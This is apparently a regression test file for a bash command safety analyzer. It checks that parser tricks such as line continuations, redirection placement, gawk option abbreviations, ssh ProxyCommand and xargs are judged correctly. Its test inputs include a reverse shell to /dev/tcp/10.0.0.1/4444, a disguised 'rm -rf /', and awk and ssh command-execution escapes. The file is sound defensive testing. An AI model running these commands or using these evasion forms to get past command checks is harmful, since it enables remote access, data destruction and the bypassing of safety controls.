/**
 * Regression file for parser differentials (class D): where tree-sitter, a regex or a naive option
 * reader sees something else than bash or the tool does. Each form was run in real bash 5.2 (or the
 * real tool) with a harmless payload.
 */
import { describe, expect, test } from "bun:test";
import { analyzeBash, rulesMayAllow } from "../../src/bash/analyze.ts";
import { awkPrograms } from "../../src/bash/awk.ts";
import { joinContinuations } from "../../src/bash/continuation.ts";
import { sshRunsProgram } from "../../src/bash/ssh.ts";

describe("backslash-newline is joined before any judgement", () => {
  test("inside words, as bash joins it", async () => {
    expect((await analyzeBash("find . -ex\\\nec id {} +")).commands[0]!.argv).toContain("-exec");
    expect((await analyzeBash("r\\\nm -rf /")).catastrophic.map((c) => c.id)).toContain("rm-root");
    expect((await analyzeBash("tou\\\nch x")).commands[0]!.argv).toEqual(["touch", "x"]);
    expect((await analyzeBash("ls -la \\\n  src")).readOnly).toBe(true);
  });
  test("not in single quotes, $'...', comments or quoted here-documents", () => {
    const kept = ["echo 'a\\\nb'", "echo $'a\\\nb'", "echo a # c \\\necho b", "cat <<'E'\ny\\\nE\n"];
    for (const text of kept) expect(joinContinuations(text), text).toBe(text);
    expect(joinContinuations('echo "a\\\nb" c\\\nd')).toBe('echo "ab" cd');
    expect(joinContinuations("cat <<E\nx\\\nE\nE\n")).toBe("cat <<E\nxE\nE\n");
  });
});

describe("what tree-sitter hangs elsewhere goes back where bash puts it", () => {
  test("words after a redirection are the command's", async () => {
    expect((await analyzeBash("rm < x -rf /")).catastrophic.map((c) => c.id)).toContain("rm-root");
    expect((await analyzeBash("tr < README.md a b")).commands[0]!.argv).toEqual(["tr", "a", "b"]);
  });
  test("the descriptor of the next redirection", async () => {
    const a = await analyzeBash("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    expect(a.commands[0]!.redirects).toEqual([
      { op: ">&", target: "/dev/tcp/10.0.0.1/4444" },
      { op: "0>&", target: "1" },
    ]);
  });
});

describe("option strings read from their tokens", () => {
  test("awk: continuations, gawk's program options by abbreviation, indirect calls", async () => {
    for (
      const c of [
        "awk 'BEGIN{system\\\n(\"id\")}'",
        "gawk --source='BEGIN{system(\"id\")}'",
        "gawk --so 'BEGIN{system(\"id\")}'",
        "gawk -e 'BEGIN{system(\"id\")}'",
        'awk \'BEGIN { f = "system"; @f("id") }\'',
        "awk '{ \"date\" |& getline d }'",
      ]
    ) {
      const a = await analyzeBash(c);
      expect(rulesMayAllow(a), c).toBe(false);
    }
    expect(awkPrograms(["--sou", "BEGIN{}"])).toEqual(["BEGIN{}"]);
    expect(awkPrograms(["--source=x", "-F,"])).toEqual(["x"]);
    expect(awkPrograms(["-f", "p.awk", "in"])).toEqual([]);
    expect(awkPrograms(["-F", ",", "--", "{print}", "f"])).toEqual(["{print}"]);
  });
  test("ssh: -o keywords in any case, after a blank, clustered, after the destination", () => {
    for (
      const args of [
        ["-voProxyCommand=id", "h"],
        ["-o", " ProxyCommand=id", "h"],
        ["-o", "proxycommand id", "h"],
        ["-o", "ProxyCommand\tid", "h"],
        ["h", "-o", "LocalCommand=id"],
        ["-F", "evil.cfg", "h"],
      ]
    ) expect(sshRunsProgram("ssh", args), args.join(" ")).toBeDefined();
    expect(sshRunsProgram("ssh", ["-p", "22", "-o", "BatchMode=yes", "h", "ls"])).toBeUndefined();
    expect(sshRunsProgram("scp", ["-S", "./evil", "a", "b:"])).toBeDefined();
  });
  test("sed's long options by abbreviation", async () => {
    for (
      const c of ["sed --i 's/a/b/' f", "sed --in-pl 's/a/b/' f", "sed --e 'w out' f", "sed --expr='1e id' f"]
    ) {
      expect((await analyzeBash(c)).readOnly, c).toBe(false);
    }
    expect((await analyzeBash("sed --quiet -n '1p' f")).readOnly).toBe(true);
  });
});

describe("xargs with input nobody has seen", () => {
  test("the command it runs gets unknown words: not read-only, no prefix rule", async () => {
    for (
      const c of ["ls | xargs cat", "ls | xargs sort", "git ls-files | xargs grep -l x", "xargs cat < list"]
    ) {
      const a = await analyzeBash(c);
      expect(a.readOnly, c).toBe(false);
      expect(rulesMayAllow(a), c).toBe(false);
    }
  });
  test("unless it only prints its words, or the input is known", async () => {
    for (const c of ["ls | xargs echo", "git log --format=%H | xargs basename", "echo a b | xargs cat"]) {
      expect((await analyzeBash(c)).readOnly, c).toBe(true);
    }
  });
});
